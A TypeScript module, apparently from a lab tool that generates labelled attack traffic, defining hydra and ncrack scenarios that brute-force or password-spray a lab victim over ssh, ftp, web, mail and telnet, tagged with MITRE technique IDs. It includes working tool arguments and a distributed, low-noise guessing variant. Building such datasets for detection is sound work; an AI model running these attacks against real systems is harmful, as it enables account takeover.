import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Scenario, ScenarioContext } from '../scenario.js';
import type { ServiceName } from '../services/index.js';

interface Target {
  kind: string;
  /** hydra's module, with the arguments after the host. */
  module: readonly string[];
  service: ServiceName;
  label?: string;
}

const FORM = '/app/login:user=^USER^&pass=^PASS^:Invalid user name';

const TARGETS: readonly Target[] = [
  { kind: 'ssh', module: ['ssh'], service: 'ssh' },
  { kind: 'ftp', module: ['ftp'], service: 'ftp' },
  { kind: 'http-form', module: ['http-post-form', FORM], service: 'web', label: 'http_brute_force' },
  { kind: 'http-basic', module: ['http-get', '/private/'], service: 'web', label: 'http_brute_force' },
  { kind: 'smtp', module: ['smtp', 'LOGIN'], service: 'mail' },
  { kind: 'pop3', module: ['pop3'], service: 'mail' },
  { kind: 'imap', module: ['imap', 'LOGIN'], service: 'mail' },
  { kind: 'telnet', module: ['telnet'], service: 'mail' },
];

/** No restore file; a server that cuts a session is given three seconds, not hydra's half minute. */
export const HYDRA = ['-I', '-w', '3'];

/** How many guesses, and how many at a time. */
const PACE = {
  slow: { guesses: 20, tasks: 1, waitSecs: 2 },
  normal: { guesses: 60, tasks: 4, waitSecs: 0 },
  fast: { guesses: 200, tasks: 16, waitSecs: 0 },
};

export function guesses(context: ScenarioContext, count: number): string[] {
  const words = ['summer', 'winter', 'dragon', 'monkey', 'letmein', 'qwerty', 'shadow', 'master', 'welcome', 'hunter'];
  return Array.from({ length: count }, () => `${context.random.pick(words)}${context.random.integer(1, 9999)}`);
}

export function list(context: ScenarioContext, name: string, words: readonly string[]): string {
  const file = join(context.lab.dir, name);
  writeFileSync(file, `${words.join('\n')}\n`);
  return file;
}

function bruteForce({ kind, module, service, label = `${kind}_brute_force` }: Target): Scenario {
  return {
    name: `brute-${kind}`,
    summary: `hydra guesses the password of one account, ${kind}`,
    kind: 'attack',
    services: [service],
    run: async (context) => {
      const { guesses: count, tasks, waitSecs } = context.at(PACE);
      const [source = ''] = context.attackers();
      context.useSource('attacker', source);
      const passwords = list(context, `passwords-${kind}`, guesses(context, count));
      const pace = ['-t', String(tasks), ...(waitSecs > 0 ? ['-c', String(waitSecs)] : [])];
      const [name = '', ...rest] = module;
      const args = [...HYDRA, '-l', 'alice', '-P', passwords, ...pace, context.victim.ip4, name, ...rest];
      const facts = { label, technique: 'T1110.001', sources: [source], targets: [context.victim.ip4] };
      await context.attack(facts, 'attacker', 'hydra', args, { cwd: context.lab.dir });
    },
  };
}

/** The other guesser of the trade. */
function ncrack(kind: 'ssh' | 'ftp'): Scenario {
  return {
    name: `brute-${kind}-ncrack`,
    summary: `ncrack guesses the password of one account, ${kind}`,
    kind: 'attack',
    services: [kind],
    run: async (context) => {
      const { guesses: count, tasks } = context.at(PACE);
      const [source = ''] = context.attackers();
      context.useSource('attacker', source);
      const passwords = list(context, `passwords-${kind}`, guesses(context, Math.min(count, 60)));
      const timing = context.at({ slow: '-T2', normal: '-T3', fast: '-T5' });
      const args = ['--user', 'alice', '-P', passwords, timing, '-g', `CL=${tasks}`, `${kind}://${context.victim.ip4}`];
      const label = `${kind}_brute_force`;
      const facts = { label, technique: 'T1110.001', sources: [source], targets: [context.victim.ip4] };
      await context.attack(facts, 'attacker', 'ncrack', args, { cwd: context.lab.dir });
    },
  };
}

/** One likely password for every account, from one source: few failures for each account. */
const spraying: Scenario = {
  name: 'spray-ssh',
  summary: 'hydra tries two passwords on thirty accounts, ssh',
  kind: 'attack',
  services: ['ssh'],
  run: async (context) => {
    const [source = ''] = context.attackers();
    context.useSource('attacker', source);
    const users = Array.from({ length: 30 }, (_, i) => `user${i}`);
    const lists = ['-L', list(context, 'users', users), '-P', list(context, 'passwords', ['Summer2026', 'Welcome1'])];
    const args = [
      '-I',
      '-u',
      ...lists,
      '-t',
      context.at({ slow: '1', normal: '4', fast: '16' }),
      context.victim.ip4,
      'ssh',
    ];
    const facts = {
      label: 'password_spraying',
      technique: 'T1110.003',
      sources: [source],
      targets: [context.victim.ip4],
    };
    await context.attack(facts, 'attacker', 'hydra', args, { cwd: context.lab.dir });
  },
};

/** Ten sources guess in turn, a few guesses each: no source alone is loud. */
const distributed: Scenario = {
  name: 'brute-ssh-distributed',
  summary: 'ten sources share the guessing of one ssh account',
  kind: 'attack',
  services: ['ssh'],
  run: async (context) => {
    for (const source of context.attackers(10)) {
      context.useSource('attacker', source);
      const passwords = list(context, `passwords-${source}`, guesses(context, 6));
      const args = [...HYDRA, '-l', 'alice', '-P', passwords, '-t', '2', context.victim.ip4, 'ssh'];
      const facts = {
        label: 'distributed_brute_force',
        technique: 'T1110.001',
        sources: [source],
        targets: [context.victim.ip4],
      };
      await context.attack(facts, 'attacker', 'hydra', args, { cwd: context.lab.dir });
    }
  },
};

export const bruteForces: readonly Scenario[] = [
  ...TARGETS.map(bruteForce),
  ncrack('ssh'),
  ncrack('ftp'),
  spraying,
  distributed,
];
